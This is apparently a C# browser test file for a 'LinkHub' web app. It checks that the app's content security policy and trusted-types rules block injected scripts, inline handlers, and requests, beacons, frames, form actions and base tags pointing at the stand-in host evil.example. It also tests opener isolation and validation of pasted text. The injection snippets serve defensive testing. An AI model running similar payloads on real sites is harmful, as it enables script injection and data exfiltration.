using LinkHub.Browser.Tests.Browsers;
using LinkHub.Browser.Tests.Forms;
using LinkHub.Browser.Tests.Sites;

namespace LinkHub.Browser.Tests.Policies;

/// <summary>What a page could do if somebody got code or markup into it: nothing.</summary>
public sealed class PolicyTests(Stage stage) : IClassFixture<Stage>
{
    [BrowserTheory]
    [InlineData("() => { document.body.innerHTML = '<b>x</b>'; }", "TrustedHTML")]
    [InlineData("() => { const script = document.createElement('script'); script.textContent = 'window.ran = 1'; document.body.append(script); }", "TrustedScript")]
    [InlineData("() => { const script = document.createElement('script'); script.src = '/assets/x.js'; document.body.append(script); }", "TrustedScriptURL")]
    [InlineData("() => { setTimeout('window.ran = 1'); }", "TrustedScript")]
    [InlineData("() => { document.body.setAttribute('onclick', 'window.ran = 1'); }", "TrustedScript")]
    [InlineData("() => { document.body.setAttribute('style', 'color: red'); }", "style-src")]
    [InlineData("() => { new Image().src = 'https://evil.example/x.png'; }", "img-src")]
    [InlineData("() => { fetch('https://evil.example/').catch(() => {}); }", "connect-src")]
    [InlineData("() => { navigator.sendBeacon('https://evil.example/'); }", "connect-src")]
    [InlineData("() => { const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame); }", "default-src")]
    [InlineData("() => { document.querySelector('.connect-form').action = 'https://evil.example/'; HTMLFormElement.prototype.submit.call(document.querySelector('.connect-form')); }", "form-action")]
    [InlineData("() => { const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base); }", "base-uri")]
    public async Task The_policy_stops(string code, string directive)
    {
        await using var visit = await stage.Visit();
        await visit.Page.GotoAsync($"{stage.Poster}/{TrialContent.Guide}");
        Assert.Empty(visit.Console);
        var reached = false;
        await visit.Context.RouteAsync("https://evil.example/**", route =>
        {
            reached = true;
            return route.AbortAsync();
        });
        var message = await visit.Page.RunAndWaitForConsoleMessageAsync(
            () => visit.Page.EvaluateAsync($"() => {{ try {{ ({code})(); }} catch {{ }} }}"),
            new() { Predicate = one => one.Text.Contains(directive, StringComparison.Ordinal) });
        Assert.Equal("error", message.Type);
        Assert.False(await visit.Page.EvaluateAsync<bool>("'ran' in window"));
        Assert.False(reached);
    }

    [BrowserFact]
    public async Task A_page_that_opened_the_hub_keeps_no_hold_of_it()
    {
        await using var visit = await stage.Visit();
        await visit.Page.GotoAsync(stage.Foreign + "/modal");
        var popup = await visit.Page.RunAndWaitForPopupAsync(() => visit.Page.EvaluateAsync(
            $"() => {{ window.hub = open('{stage.Poster}/{TrialContent.Guide}', 'lm_named'); }}"));
        await Expect.Visible(new LumenForm(popup).Submit);
        Assert.True(await popup.EvaluateAsync<bool>("window.opener === null"));
        Assert.True(await visit.Page.EvaluateAsync<bool>("window.hub.closed"));
        Assert.Equal("", await new LumenForm(popup)["apiKey"].InputValueAsync());
    }

    [BrowserFact]
    public async Task A_text_dropped_into_a_box_is_cleaned_and_checked_like_any_other()
    {
        await using var visit = await stage.Visit();
        await visit.Page.GotoAsync($"{stage.Glimpse}/{TrialContent.Guide}");
        var form = new LumenForm(visit.Page);
        await form["email"].FocusAsync();
        await visit.Page.EvaluateAsync("() => document.execCommand('insertText', false, ' kim@brightwater ')");
        await form["apiKey"].FocusAsync();
        await Expect.Value(form["email"], "kim@brightwater");
        await Expect.Text(form.Error("email"), "Enter a complete e-mail address");
    }
}
